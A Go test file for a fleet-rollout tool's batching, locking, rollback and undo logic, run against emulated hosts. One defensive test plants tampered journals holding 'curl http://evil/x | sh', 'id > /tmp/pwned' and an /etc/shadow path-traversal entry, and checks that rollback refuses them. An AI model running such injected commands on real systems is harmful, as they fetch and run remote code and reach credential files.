package fleet

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/frontdoor-dev/frontdoor/memhost"
	"github.com/frontdoor-dev/frontdoor/playbooks"
	"github.com/frontdoor-dev/frontdoor/session"
	"github.com/frontdoor-dev/frontdoor/steps"
	"github.com/frontdoor-dev/frontdoor/target"
)

// These tests run the fleet's logic on in-memory hosts (memhost: EMULATED Debian hosts), so
// batches, --max-fail, batch rollback, locks and undo are covered without the lab. The lab's e2e
// tests prove the same paths on real hosts.

const jiraPlaybook = "apps:\n  - product: jira\n    url: http://{{host}}.example.com\n"

type memRun struct {
	fl     *memhost.Fleet
	pb     *playbooks.Playbook
	hosts  []*playbooks.Host
	mu     sync.Mutex
	events []Event
	// verifyWait bounds verification's retries (0: the default minute).
	verifyWait time.Duration
}

func newMemRun(t *testing.T, names ...string) *memRun {
	t.Helper()
	pb, err := playbooks.ParsePlaybook("pb.yaml", []byte(jiraPlaybook))
	if err != nil {
		t.Fatal(err)
	}
	var inv strings.Builder
	inv.WriteString("hosts:\n")
	for i, n := range names {
		fmt.Fprintf(&inv, "  %s: {address: 192.0.2.%d}\n", n, i+1)
	}
	p := filepath.Join(t.TempDir(), "inventory.yaml")
	if err := os.WriteFile(p, []byte(inv.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	in, err := playbooks.LoadInventory(p)
	if err != nil {
		t.Fatal(err)
	}
	hosts, err := in.Select("")
	if err != nil {
		t.Fatal(err)
	}
	m := &memRun{fl: memhost.NewFleet(names...), pb: pb, hosts: hosts}
	t.Cleanup(m.fl.Close)
	return m
}

func (m *memRun) opts() session.Options {
	return session.Options{
		Dial:     func(_ context.Context, h *playbooks.Host) (target.Conn, error) { return m.fl.Conn(h.Name) },
		HTTPDial: m.fl.HTTPDial, VerifyWait: m.verifyWait,
	}
}

func (m *memRun) emitter(run string) *Emitter {
	return NewEmitter(run, func(e Event) { m.mu.Lock(); m.events = append(m.events, e); m.mu.Unlock() })
}

func (m *memRun) rollout(serial []Size, maxFail *Size) (*Rollout, Owner) {
	now := time.Now()
	owner := Me(NewRunID(now), now)
	return &Rollout{Playbook: m.pb, Hosts: m.hosts, Opts: m.opts(), Forks: 4, Serial: serial, MaxFail: maxFail,
		Emit: m.emitter(owner.Run), Owner: owner}, owner
}

func (m *memRun) snapshots() map[string]string {
	out := map[string]string{}
	for n, h := range m.fl.Hosts {
		out[n] = h.Snapshot()
	}
	return out
}

func statuses(res *Result) string {
	var s []string
	for _, h := range res.Hosts {
		x := h.Host + "=" + h.Status
		if h.RolledBack {
			x += "+rb"
		}
		s = append(s, x)
	}
	return strings.Join(s, " ")
}

// A fresh fleet is changed and verified through the (emulated) proxy, every lock is released, and
// a second run changes nothing and restarts nothing.
func TestMemRolloutFreshThenConverged(t *testing.T) {
	m := newMemRun(t, "a1", "a2", "a3")
	ro, _ := m.rollout(nil, nil)
	res := ro.Run(context.Background())
	if res.Status != RunOK || statuses(res) != "a1=changed a2=changed a3=changed" {
		t.Fatalf("fresh: %s %s: %v", res.Status, statuses(res), res.Hosts[0].Err)
	}
	for n, h := range m.fl.Hosts {
		if h.Lock != "" {
			t.Errorf("%s: lock not released: %s", n, h.Lock)
		}
		if !h.Sites["frontdoor-"+n+".example.com"] || !h.Modules["proxy_http"] {
			t.Errorf("%s: site or module not enabled:\n%s", n, h.Snapshot())
		}
		if sx := string(h.File("/opt/atlassian/jira/conf/server.xml").Data); !strings.Contains(sx, `proxyName="`+n+`.example.com"`) {
			t.Errorf("%s: server.xml has no proxyName", n)
		}
	}
	before := m.snapshots()
	logged := len(m.fl.Hosts["a1"].Log)
	ro, _ = m.rollout(nil, nil)
	res = ro.Run(context.Background())
	if res.Status != RunOK || statuses(res) != "a1=ok a2=ok a3=ok" {
		t.Fatalf("converged: %s %s", res.Status, statuses(res))
	}
	for n, s := range m.snapshots() {
		if s != before[n] {
			t.Errorf("%s changed on a converged run", n)
		}
	}
	// On the connection: the gather and the release, nothing else (verification's requests go to
	// the host's Apache, not through the connection).
	var ops []string
	for _, l := range m.fl.Hosts["a1"].Log[logged:] {
		if !strings.HasPrefix(l, "http ") {
			ops = append(ops, l)
		}
	}
	if len(ops) != 2 || !strings.Contains(ops[0], "@@frontdoor-gather") || !strings.Contains(ops[1], "readlink") {
		t.Errorf("converged run did more than gather and release: %q", ops)
	}
}

// Rolling batches of one with --max-fail 0: the failing host (its Jira does not come back) is
// rolled back byte-exact by itself, the batch before it is rolled back by the batch rule only
// when it is in the same batch, and later batches are not started. With --serial 2 the failing
// batch's other, verified host is rolled back too (batch rollback), unless NoBatchRollback.
func TestMemRollingMaxFail(t *testing.T) {
	for _, tc := range []struct {
		name       string
		serial     string
		noBatchRB  bool
		want       string
		wantStatus string
	}{
		{"serial 1", "1", false, "a1=changed a2=failed+rb a3=skipped a4=skipped", RunStopped},
		{"serial 2, batch rolled back", "2", false, "a1=changed+rb a2=failed+rb a3=skipped a4=skipped", RunStopped},
		{"serial 2, no batch rollback", "2", true, "a1=changed a2=failed+rb a3=skipped a4=skipped", RunStopped},
		{"one batch, no max-fail", "", false, "a1=changed a2=failed+rb a3=changed a4=changed", RunFailed},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m := newMemRun(t, "a1", "a2", "a3", "a4")
			// Jira on a2 does not come back after the change (once: with its original
			// configuration restored it starts again).
			m.fl.Hosts["a2"].Fail("run", "does not answer on port 8080", 1, "jira does not answer on port 8080 after 180 s")
			before := m.snapshots()
			serial, err := ParseSerial(tc.serial)
			if err != nil {
				t.Fatal(err)
			}
			ro, owner := m.rollout(serial, nil)
			ro.NoBatchRollback, ro.Forks = tc.noBatchRB, 1 // one at a time: a1 always ends before a2 fails
			res := ro.Run(context.Background())
			if statuses(res) != tc.want || res.Status != tc.wantStatus {
				t.Fatalf("got %s (%s), want %s (%s)", statuses(res), res.Status, tc.want, tc.wantStatus)
			}
			for _, hr := range res.Hosts {
				h := m.fl.Hosts[hr.Host]
				snap := h.Snapshot()
				if (hr.RolledBack || hr.Status == StatusSkipped) && snap != before[hr.Host] {
					t.Errorf("%s (%s) is not back where it was:\nbefore:\n%s\nafter:\n%s", hr.Host, hr.Status, before[hr.Host], snap)
				}
				if hr.Status == StatusChanged && !hr.RolledBack && snap == before[hr.Host] {
					t.Errorf("%s: changed but the host is as before", hr.Host)
				}
				if h.Lock != "" {
					t.Errorf("%s: lock left: %s", hr.Host, h.Lock)
				}
				j := h.File(RunDir(owner.Run, target.POSIX) + "/journal.json")
				if hr.Status == StatusSkipped && j.Exists {
					t.Errorf("%s: skipped host has a journal", hr.Host)
				}
				if hr.RolledBack && !strings.Contains(string(j.Data), `"state": "rolled-back"`) {
					t.Errorf("%s: journal does not say rolled-back:\n%s", hr.Host, j.Data)
				}
			}
			if !strings.Contains(res.Hosts[1].Err.Error(), "does not answer on port 8080") {
				t.Errorf("a2's error: %v", res.Hosts[1].Err)
			}
		})
	}
}

// A host locked by another run is refused before any change; a live holder is waited for, a
// stale one (its controller's process on this machine is gone) is named with what to do.
func TestMemLockHeld(t *testing.T) {
	m := newMemRun(t, "a1")
	h := m.fl.Hosts["a1"]
	before := h.Snapshot()
	live := Me("20261201T000000Z-aaaaaa", time.Now())
	h.Lock = live.String()
	ro, _ := m.rollout(nil, nil)
	res := ro.Run(context.Background())
	var le *LockedError
	if res.Hosts[0].Status != StatusFailed || !errors.As(res.Hosts[0].Err, &le) || le.Stale {
		t.Fatalf("live lock: %s %v", statuses(res), res.Hosts[0].Err)
	}
	if h.Snapshot() != before || h.Lock != live.String() {
		t.Error("a refused host was changed, or its lock broken")
	}
	dead := live
	dead.PID = deadPID(t)
	h.Lock = dead.String()
	ro, _ = m.rollout(nil, nil)
	res = ro.Run(context.Background())
	if !errors.As(res.Hosts[0].Err, &le) || !le.Stale || le.Holder.Run != dead.Run {
		t.Fatalf("stale lock: %v", res.Hosts[0].Err)
	}
}

// A host where an earlier run did not finish (its journal says applying) is refused until that
// run is undone.
func TestMemUnfinishedRun(t *testing.T) {
	m := newMemRun(t, "a1")
	h := m.fl.Hosts["a1"]
	old := "20261201T000000Z-bbbbbb"
	h.Put(RunDir(old, target.POSIX)+"/journal.json", `{"state": "applying", "run": "`+old+`"}`, 0o600)
	ro, _ := m.rollout(nil, nil)
	res := ro.Run(context.Background())
	var ue *session.UnfinishedError
	if !errors.As(res.Hosts[0].Err, &ue) || ue.Run != old || ue.State != StateApplying {
		t.Fatalf("got %v", res.Hosts[0].Err)
	}
	if h.Lock != "" {
		t.Error("lock kept after refusing")
	}
}

// deadPID is the PID of a process of this machine that has ended.
func deadPID(t *testing.T) int {
	t.Helper()
	p, err := os.StartProcess("/bin/true", []string{"true"}, &os.ProcAttr{})
	if err != nil {
		t.Skip("cannot start /bin/true:", err)
	}
	p.Wait()
	return p.Pid
}

// frontdoor rollback RUN from the hosts' journals: byte-exact; refused over drift unless Force;
// a second undo finds it already rolled back; a host the run never touched has nothing to undo.
func TestMemUndo(t *testing.T) {
	m := newMemRun(t, "a1", "a2")
	before := m.snapshots()
	ro, owner := m.rollout(nil, nil)
	ro.Hosts = m.hosts[:1] // a2 is not part of the run
	if res := ro.Run(context.Background()); res.Status != RunOK {
		t.Fatalf("apply: %s", statuses(res))
	}
	a1 := m.fl.Hosts["a1"]
	undo := func(force bool) *Result {
		now := time.Now()
		u := &Undo{Hosts: m.hosts, Opts: m.opts(), Forks: 2, Target: owner.Run, Force: force, Emit: m.emitter("undo"), Owner: Me(NewRunID(now), now)}
		return u.Run(context.Background())
	}
	// Drift: someone edits the vhost frontdoor wrote.
	site := "/etc/apache2/sites-available/frontdoor-a1.example.com.conf"
	edited := string(a1.File(site).Data) + "# edited by hand\n"
	a1.Put(site, edited, 0o644)
	res := undo(false)
	var de *DriftError
	if res.Status != RunFailed || !errors.As(res.Hosts[0].Err, &de) || !strings.Contains(de.Drift[0], site+" was changed") {
		t.Fatalf("drift: %s %v", statuses(res), res.Hosts[0].Err)
	}
	if string(a1.File(site).Data) != edited {
		t.Fatal("a refused rollback changed the host")
	}
	if res.Hosts[1].Status != StatusNothing {
		t.Errorf("a2: %s", res.Hosts[1].Status)
	}
	res = undo(true)
	if res.Status != RunOK || res.Hosts[0].Status != StatusRolledBack {
		t.Fatalf("force: %s %v", statuses(res), res.Hosts[0].Err)
	}
	for n, s := range m.snapshots() {
		if s != before[n] {
			t.Errorf("%s not back where it was:\nbefore:\n%s\nafter:\n%s", n, before[n], s)
		}
		if m.fl.Hosts[n].Lock != "" {
			t.Errorf("%s: lock left", n)
		}
	}
	res = undo(false)
	if res.Status != RunOK || res.Hosts[0].Status != StatusNothing {
		t.Errorf("second undo: %s", statuses(res))
	}
	var already bool
	for _, e := range m.events {
		already = already || (e.Type == HostRollback && e.Host == "a1" && e.Step == "already rolled back")
	}
	if !already {
		t.Error("no 'already rolled back' event")
	}
}

// A controller killed in the middle of an apply leaves a stale lock and a journal saying
// applying: a new apply is refused, rollback takes the stale lock over and restores the host.
func TestMemUndoAfterKilledController(t *testing.T) {
	m := newMemRun(t, "a1")
	a1 := m.fl.Hosts["a1"]
	before := a1.Snapshot()
	// The "controller" dies when it writes the vhost: everything before is done and journaled.
	a1.Fail("write", "sites-available/frontdoor-", 1, "connection lost")
	now := time.Now()
	dead := Me(NewRunID(now), now)
	dead.PID = deadPID(t)
	ro, _ := m.rollout(nil, nil)
	ro.Owner, ro.Emit = dead, m.emitter(dead.Run)
	// Keep the host as a dead controller leaves it: no rollback, no release.
	ro.Opts.Wrap = func(c target.Conn) target.Conn { return &noUndo{Conn: c} }
	ro.Run(context.Background())
	if a1.Lock != dead.String() || !strings.Contains(string(a1.File(RunDir(dead.Run, target.POSIX)+"/journal.json").Data), `"state": "applying"`) {
		t.Fatalf("the dead controller's host should keep its lock and an applying journal: lock %q", a1.Lock)
	}
	if a1.Snapshot() == before {
		t.Fatal("the dead run changed nothing: the test proves nothing")
	}
	ro2, _ := m.rollout(nil, nil)
	res := ro2.Run(context.Background())
	var le *LockedError
	if !errors.As(res.Hosts[0].Err, &le) || !le.Stale || le.Holder.Run != dead.Run {
		t.Fatalf("apply over a dead run's lock: %v", res.Hosts[0].Err)
	}
	u := &Undo{Hosts: m.hosts, Opts: m.opts(), Forks: 1, Target: dead.Run, Emit: m.emitter("undo"), Owner: Me(NewRunID(now), now)}
	if res := u.Run(context.Background()); res.Status != RunOK || res.Hosts[0].Status != StatusRolledBack {
		t.Fatalf("undo: %s %v", statuses(res), res.Hosts[0].Err)
	}
	if a1.Snapshot() != before || a1.Lock != "" {
		t.Errorf("not restored:\nbefore:\n%s\nafter:\n%s\nlock %q", before, a1.Snapshot(), a1.Lock)
	}
}

// noUndo is a connection whose writes stop working after the first failure, as a controller's
// would when it dies: nothing after that reaches the host.
type noUndo struct {
	target.Conn
	dead bool
}

func (c *noUndo) Run(ctx context.Context, cmd string, stdin []byte) ([]byte, error) {
	if c.dead {
		return nil, errors.New("controller gone")
	}
	return c.Conn.Run(ctx, cmd, stdin)
}
func (c *noUndo) WriteFile(ctx context.Context, f target.File) error {
	if c.dead {
		return errors.New("controller gone")
	}
	err := c.Conn.WriteFile(ctx, f)
	c.dead = err != nil
	return err
}
func (c *noUndo) Remove(ctx context.Context, p string) error {
	if c.dead {
		return errors.New("controller gone")
	}
	return c.Conn.Remove(ctx, p)
}

// Unlock breaks only a stale lock, unless forced.
func TestMemUnlock(t *testing.T) {
	m := newMemRun(t, "a1")
	a1 := m.fl.Hosts["a1"]
	ctx := context.Background()
	c, _ := m.fl.Conn("a1")
	if msg, err := Unlock(ctx, c, false); err != nil || msg != "not locked" {
		t.Fatalf("%q %v", msg, err)
	}
	live := Me("20261201T000000Z-cccccc", time.Now())
	a1.Lock = live.String()
	var le *LockedError
	if _, err := Unlock(ctx, c, false); !errors.As(err, &le) || a1.Lock == "" {
		t.Fatalf("live lock broken: %v", err)
	}
	if msg, err := Unlock(ctx, c, true); err != nil || a1.Lock != "" || !strings.Contains(msg, "broke the lock of run 20261201T000000Z-cccccc") {
		t.Fatalf("force: %q %v", msg, err)
	}
	dead := live
	dead.PID = deadPID(t)
	a1.Lock = dead.String()
	if _, err := Unlock(ctx, c, false); err != nil || a1.Lock != "" {
		t.Fatalf("stale: %v", err)
	}
}

// An interrupt before the rollout starts a host skips it; a confirmed plan that changed under
// the lock is refused without a change.
func TestMemInterruptAndChangedPlan(t *testing.T) {
	m := newMemRun(t, "a1", "a2")
	before := m.snapshots()
	ro, _ := m.rollout(nil, nil)
	ro.Stopping = func() bool { return true }
	res := ro.Run(context.Background())
	if res.Status != RunInterrupted || statuses(res) != "a1=skipped a2=skipped" {
		t.Fatalf("interrupted: %s %s", res.Status, statuses(res))
	}
	// Plan a1 as apply's confirmation does, then change its server.xml before the apply.
	opts := m.opts()
	r := session.Prepare(context.Background(), m.pb, m.hosts[0], opts)
	if r.Err != nil {
		t.Fatal(r.Err)
	}
	sx := "/opt/atlassian/jira/conf/server.xml"
	m.fl.Hosts["a1"].Put(sx, strings.Replace(memhost.JiraServerXML, `connectionTimeout="20000"`, `connectionTimeout="30000"`, 1), 0o644)
	before["a1"] = m.fl.Hosts["a1"].Snapshot()
	ro, _ = m.rollout(nil, nil)
	ro.Hosts = m.hosts[:1]
	ro.Prepared = map[string]*session.HostRun{"a1": r}
	res = ro.Run(context.Background())
	var pe *PlanChangedError
	if !errors.As(res.Hosts[0].Err, &pe) || m.fl.Hosts["a1"].Snapshot() != before["a1"] || m.fl.Hosts["a1"].Lock != "" {
		t.Fatalf("changed plan: %v", res.Hosts[0].Err)
	}
}

// The journal kept on a host reads back as it was stored, backups included; on a Windows host
// it lives under C:\ProgramData\frontdoor and is compared on bytes alone.
func TestMemJournalStoreLoad(t *testing.T) {
	for _, d := range []target.Dialect{target.POSIX, target.Windows} {
		h := memhost.New("a1")
		c := h.Conn()
		c.SetDialect(d)
		ctx := context.Background()
		owner := Me(NewRunID(time.Now()), time.Now())
		s := NewStore(c, owner.Run, owner, d)
		j := &steps.Journal{Store: s, Dialect: d}
		orig := h.File("/etc/apache2/ports.conf")
		if err := j.RecordFile(ctx, orig, []byte("Listen 80\nListen 9800\n")); err != nil {
			t.Fatal(err)
		}
		if err := j.RecordCommand(ctx, "module proxy", "a2dismod -q -f proxy"); err != nil {
			t.Fatal(err)
		}
		if err := s.Finish(ctx, StateApplied); err != nil {
			t.Fatal(err)
		}
		dir := RunDir(owner.Run, d)
		if d == target.Windows && !strings.HasPrefix(dir, "/C:/ProgramData/frontdoor/runs/") {
			t.Errorf("windows run dir %s", dir)
		}
		hj, back, err := LoadJournal(ctx, c, owner.Run, d)
		if err != nil || hj.State != StateApplied || hj.Run != owner.Run {
			t.Fatalf("%v: %+v %v", d, hj, err)
		}
		if got := back.Originals(); len(got) != 1 || string(got[0].Data) != string(orig.Data) {
			t.Errorf("%v: originals %+v", d, got)
		}
		if back.Dialect != d {
			t.Errorf("dialect %v", back.Dialect)
		}
		// A damaged backup is refused, not restored.
		h.Put(dir+"/backups/"+hj.Backups[0], "damaged", 0o600)
		if _, _, err := LoadJournal(ctx, c, owner.Run, d); err == nil || !strings.Contains(err.Error(), "damaged") {
			t.Errorf("%v: damaged backup: %v", d, err)
		}
		if hj, _, err := LoadJournal(ctx, c, "20260101T000000Z-000000", d); hj != nil || err != nil {
			t.Errorf("no journal: %v %v", hj, err)
		}
	}
}

// A journal edited on the host cannot make rollback run a command frontdoor never writes
// (issue 11 row 7): the rollback is refused and nothing is run or written.
func TestMemUndoRefusesHostileJournal(t *testing.T) {
	m := newMemRun(t, "a1")
	a1 := m.fl.Hosts["a1"]
	run := "20261201T000000Z-ffffff"
	for _, j := range []string{
		`{"state": "applying", "run": "` + run + `", "entries": [{"label": "undo x", "undo_command": "curl http://evil/x | sh"}]}`,
		`{"state": "applying", "run": "` + run + `", "entries": [], "services": [{"Name": "jira", "Start": "id > /tmp/pwned"}]}`,
		`{"state": "applying", "run": "` + run + `", "entries": [{"label": "restore", "path": "/etc/../etc/shadow", "existed": false}]}`,
	} {
		a1.Put(RunDir(run, target.POSIX)+"/journal.json", j, 0o600)
		before := len(a1.Log)
		now := time.Now()
		u := &Undo{Hosts: m.hosts, Opts: m.opts(), Forks: 1, Target: run, Emit: m.emitter("undo"), Owner: Me(NewRunID(now), now)}
		res := u.Run(context.Background())
		if res.Status != RunFailed || !strings.Contains(res.Hosts[0].Err.Error(), "refusing to replay it") {
			t.Fatalf("%s: %s %v", j, statuses(res), res.Hosts[0].Err)
		}
		for _, l := range a1.Log[before:] {
			if strings.Contains(l, "evil") || strings.Contains(l, "pwned") || strings.HasPrefix(l, "write /etc") || strings.HasPrefix(l, "remove /etc") {
				t.Errorf("ran or wrote: %s", l)
			}
		}
	}
}

// A state directory another user owns, or a symlink, is refused before any change: journals
// and backups (passwords) are not kept there and no lock is taken in it (issue 11 row 7).
func TestMemUnsafeStateDir(t *testing.T) {
	for _, st := range []string{"1000 755 directory", "symlink", "0 755 directory"} {
		m := newMemRun(t, "a1")
		a1 := m.fl.Hosts["a1"]
		a1.StateDir = st
		before := a1.Snapshot()
		ro, _ := m.rollout(nil, nil)
		res := ro.Run(context.Background())
		var ue *session.UnsafeStateError
		if !errors.As(res.Hosts[0].Err, &ue) || a1.Snapshot() != before || a1.Lock != "" {
			t.Errorf("%s: %v", st, res.Hosts[0].Err)
		}
		r := session.Prepare(context.Background(), m.pb, m.hosts[0], m.opts())
		if len(r.Warnings) == 0 || !strings.Contains(fmt.Sprint(r.Warnings), "state directory is unsafe") {
			t.Errorf("%s: plan warnings %v", st, r.Warnings)
		}
	}
}

// A write that fails on a full disk changed nothing: the rollback leaves that file alone instead
// of failing to "restore" it on the same full disk, and the host ends rolled back, not blocked
// (issue 12's disk-full finding).
func TestMemDiskFullRollsBackCleanly(t *testing.T) {
	m := newMemRun(t, "a1")
	a1 := m.fl.Hosts["a1"]
	before := a1.Snapshot()
	a1.Fail("write", "/opt/atlassian/jira/conf/server.xml", 0, "No space left on device")
	ro, owner := m.rollout(nil, nil)
	res := ro.Run(context.Background())
	hr := res.Hosts[0]
	if hr.Status != StatusFailed || !hr.RolledBack || !strings.Contains(hr.Err.Error(), "No space left on device") || strings.Contains(hr.Err.Error(), "ROLLBACK INCOMPLETE") {
		t.Fatalf("%s rb=%v: %v", hr.Status, hr.RolledBack, hr.Err)
	}
	if a1.Snapshot() != before || a1.Lock != "" {
		t.Errorf("not back where it was:\n%s", a1.Snapshot())
	}
	if j := a1.File(RunDir(owner.Run, target.POSIX) + "/journal.json"); !strings.Contains(string(j.Data), `"state": "rolled-back"`) {
		t.Errorf("journal: %s", j.Data)
	}
}

// An app whose stop always fails (a masked unit, a stop script that exits 1): the apply fails
// before any change, and the host is not left "rollback-failed" (review of the stop-first
// journal): the rollback sees the app running and is done.
func TestMemStopAlwaysFails(t *testing.T) {
	m := newMemRun(t, "a1")
	a1 := m.fl.Hosts["a1"]
	before := a1.Snapshot()
	a1.Fail("run", "systemctl stop 'jira'", 0, "Failed to stop jira.service: Unit jira.service is masked.")
	ro, owner := m.rollout(nil, nil)
	res := ro.Run(context.Background())
	hr := res.Hosts[0]
	var rbe *steps.RollbackError
	if hr.Status != StatusFailed || errors.As(hr.Err, &rbe) || a1.Snapshot() != before || a1.Lock != "" {
		t.Fatalf("%s rb=%v: %v\n%s", hr.Status, hr.RolledBack, hr.Err, a1.Snapshot())
	}
	if j := a1.File(RunDir(owner.Run, target.POSIX) + "/journal.json"); strings.Contains(string(j.Data), "rollback-failed") {
		t.Errorf("journal: %s", j.Data)
	}
}

// A verified host whose batch rollback fails is counted failed and named as half-changed, so the
// closing advice is the undo, not a retry.
func TestMemBatchRollbackFails(t *testing.T) {
	m := newMemRun(t, "a1", "a2")
	m.fl.Hosts["a2"].Fail("run", "does not answer on port 8080", 1, "jira does not answer")
	// a1's apply restarts httpd once; the batch rollback's restart is the one that fails.
	m.fl.Hosts["a1"].Faults = append(m.fl.Hosts["a1"].Faults, &memhost.Fault{Op: "run", Match: "systemctl restart apache2", Skip: 1, Stderr: "Job for apache2.service failed"})
	serial, _ := ParseSerial("2")
	ro, _ := m.rollout(serial, nil)
	ro.Forks = 1
	res := ro.Run(context.Background())
	if got := res.Unfinished(); len(got) != 1 || got[0] != "a1" || res.Hosts[0].Status != StatusFailed || res.Counts.Failed != 2 {
		t.Fatalf("unfinished %v, %s, counts %+v", got, statuses(res), res.Counts)
	}
}

// The first Forks hosts of a batch start together whatever happens to one of them: a host that
// fails at once (its first command) does not keep the others of its batch from starting, however
// the goroutines are scheduled; a host waiting for a fork slot is held back by the threshold.
// (Found as a flaky report test: which hosts ran depended on scheduling.)
func TestMemBatchStartsTogether(t *testing.T) {
	for i := 0; i < 30; i++ {
		m := newMemRun(t, "a1", "a2", "a3", "a4")
		m.fl.Hosts["a1"].Fail("run", "@@frontdoor-gather", 0, "gather fails at once")
		serial, _ := ParseSerial("3")
		ro, _ := m.rollout(serial, nil)
		ro.Forks = 3
		res := ro.Run(context.Background())
		if got := statuses(res); got != "a1=failed a2=changed+rb a3=changed+rb a4=skipped" {
			t.Fatalf("run %d: %s", i, got)
		}
	}
	m := newMemRun(t, "a1", "a2", "a3")
	m.fl.Hosts["a1"].Fail("run", "@@frontdoor-gather", 0, "gather fails at once")
	serial, _ := ParseSerial("3")
	ro, _ := m.rollout(serial, nil)
	ro.Forks = 1 // a2 and a3 wait for a1's slot, then are held back
	if got := statuses(ro.Run(context.Background())); got != "a1=failed a2=skipped a3=skipped" {
		t.Fatalf("forks 1: %s", got)
	}
}

// TestMemCoordinate: a shard of a split run (Rollout.Coordinate) stops or goes on by the verdict
// of all shards, not by its own share: a percentage over on its own is not over for the run (the
// shard goes on, nothing rolled back); the shards' verdict to stop rolls back its batch, though
// nothing failed on it, and skips its later batches saying why.
func TestMemCoordinate(t *testing.T) {
	for _, tc := range []struct {
		name   string
		stop   bool
		want   string
		status string
	}{
		{"the run's batch is under 10%", false, "a1=changed a2=failed+rb a3=changed a4=changed", RunFailed},
		{"another shard's failures stop the run", true, "a1=changed+rb a2=failed+rb a3=skipped a4=skipped", RunStopped},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m := newMemRun(t, "a1", "a2", "a3", "a4")
			m.fl.Hosts["a2"].Fail("run", "does not answer on port 8080", 1, "jira does not answer on port 8080 after 180 s")
			serial, _ := ParseSerial("2")
			ro, _ := m.rollout(serial, &Size{N: 10, Percent: true})
			ro.Forks = 1
			var calls []string
			ro.Coordinate = func(_ context.Context, batch, hosts, failed int) (bool, string) {
				calls = append(calls, fmt.Sprintf("%d:%d/%d", batch, failed, hosts))
				// The other shards had 38 hosts in this batch and no failure: 1 of 40 is 2.5%.
				return tc.stop, "the rollout stopped: batch 1's failures over all 3 shards went over --max-fail"
			}
			res := ro.Run(context.Background())
			if statuses(res) != tc.want || res.Status != tc.status {
				t.Fatalf("got %s (%s), want %s (%s)", statuses(res), res.Status, tc.want, tc.status)
			}
			if calls[0] != "1:1/2" {
				t.Errorf("Coordinate calls %v: batch 1 should report 1 failed of 2", calls)
			}
			if tc.stop && !strings.Contains(ro.skipReason(true), "over all 3 shards") {
				t.Errorf("later batches skipped for %q, not the shards' reason", ro.skipReason(true))
			}
		})
	}
}

// A rollback interrupted before a host starts (Ctrl-C cancels the context) reports that host
// failed with the interruption; it used to panic on a nil error when the run had no clusters.
func TestMemUndoInterrupted(t *testing.T) {
	m := newMemRun(t, "a1")
	ro, owner := m.rollout(nil, nil)
	if res := ro.Run(context.Background()); res.Status != RunOK {
		t.Fatalf("apply: %s", statuses(res))
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	now := time.Now()
	u := &Undo{Hosts: m.hosts, Opts: m.opts(), Forks: 1, Target: owner.Run, Emit: m.emitter("undo"), Owner: Me(NewRunID(now), now)}
	res := u.Run(ctx)
	if res.Status != RunFailed || res.Hosts[0].Status != StatusFailed || !errors.Is(res.Hosts[0].Err, context.Canceled) {
		t.Fatalf("interrupted rollback: %s %v", statuses(res), res.Hosts[0].Err)
	}
}
